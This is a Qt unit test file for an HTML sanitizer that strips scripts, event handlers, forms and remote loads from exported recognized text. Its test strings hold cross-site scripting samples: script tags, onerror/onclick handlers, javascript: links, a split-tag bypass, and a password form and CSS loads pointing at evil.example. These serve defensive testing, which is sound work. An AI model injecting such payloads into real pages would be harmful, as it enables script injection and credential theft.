// Recognized text rendered to HTML keeps its document markup and loses anything that runs code,
// loads from the network or asks for input.
#include <QtTest>

#include "export/htmlrenderer.h"
#include "export/htmlsanitizer.h"

using namespace folio;

class TestHtmlSanitizer : public QObject {
    Q_OBJECT
private slots:
    void tablesAndMathSurvive() {
        const QString html = markdownToHtml(QStringLiteral(
            "# Title\n\n<table><tr><th colspan=\"2\">Merged</th></tr><tr><td>$x^2$</td><td><b>y</b><sup>1</sup></td></tr></table>\n\n"
            "Inline $a+b$ and **bold**."));
        QVERIFY(html.contains(QStringLiteral("<h1>Title</h1>")));
        QVERIFY(html.contains(QStringLiteral("colspan=\"2\"")));
        QVERIFY(html.contains(QStringLiteral("<x-equation")));
        QVERIFY(html.contains(QStringLiteral("<b>y</b><sup>1</sup>")));
        QVERIFY(html.contains(QStringLiteral("<strong>bold</strong>")));
    }

    void scriptsFormsAndRemoteLoadsGo() {
        const QString hostile = QStringLiteral(
            "<p onclick=\"steal()\">Text <script>alert(1)</script><img src=\"https://evil.example/x.png\" onerror=\"x()\">"
            "<img src=\"data:image/png;base64,AAAA\" alt=\"fig\"><a href=\"javascript:alert(2)\">link</a>"
            "<a href=\"https://example.org/\">web</a></p>"
            "<form action=\"https://evil.example/\"><input name=\"pw\"><button>Send</button></form>"
            "<iframe src=\"https://evil.example/\"></iframe><style>body{background:url(https://evil.example/)}</style>"
            "<div style=\"background:url(https://evil.example/)\">kept text</div><blink>also kept</blink><!-- note -->");
        const QString clean = sanitizeHtml(hostile);
        for (const char* gone : {"script", "alert", "onclick", "onerror", "evil.example", "form", "input", "button",
                                 "iframe", "style", "javascript", "note", "blink"})
            QVERIFY2(!clean.contains(QLatin1String(gone)), qPrintable(QStringLiteral("%1 in: %2").arg(QLatin1String(gone), clean)));
        for (const char* kept : {"Text", "data:image/png;base64,AAAA", "https://example.org/", "kept text", "also kept", ">link<"})
            QVERIFY2(clean.contains(QLatin1String(kept)), qPrintable(QStringLiteral("%1 not in: %2").arg(QLatin1String(kept), clean)));
    }

    void theMarkdownPathIsSanitizedToo() {
        const QString html = markdownToHtml(QStringLiteral("A page <script>alert(1)</script> with <img src=\"http://x.example/a.png\">"));
        QVERIFY(!html.contains(QStringLiteral("script")));
        QVERIFY(!html.contains(QStringLiteral("x.example")));
        QVERIFY(html.contains(QStringLiteral("A page")));
    }

    // Text written like a tag that opens no HTML element stays text, in every format made from
    // this HTML (preview, HTML, DOCX, ODT, EPUB); real elements stay markup.
    void tagLikeTextIsKept() {
        const QString html = markdownToHtml(QStringLiteral(
            "Use List<T> for <name>, angle <brackets> and a <foo bar=\"1\"> word</foo>; <b>bold</b> H<sub>2</sub>O."));
        for (const char* kept : {"List&lt;T&gt;", "for &lt;name&gt;,", "angle &lt;brackets&gt; and",
                                 "&lt;foo bar=\"1\"&gt; word&lt;/foo&gt;;", "<b>bold</b>", "H<sub>2</sub>O"})
            QVERIFY2(html.contains(QLatin1String(kept)), qPrintable(QStringLiteral("%1 not in: %2").arg(QLatin1String(kept), html)));
        QVERIFY(!markdownToHtml(QStringLiteral("a <Script>x()</script> b")).contains(QStringLiteral("x()")));
    }

    void brokenMarkupIsStillSafe() {
        const QString clean = sanitizeHtml(QStringLiteral("<table><tr><td>open <scr<script>ipt>alert(1)</script> <img src=x onerror=alert(1)"));
        QVERIFY(!clean.contains(QStringLiteral("<script")));
        QVERIFY(!clean.contains(QStringLiteral("onerror")));
        QVERIFY(clean.contains(QStringLiteral("open")));
    }
};

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "test_htmlsanitizer.moc"
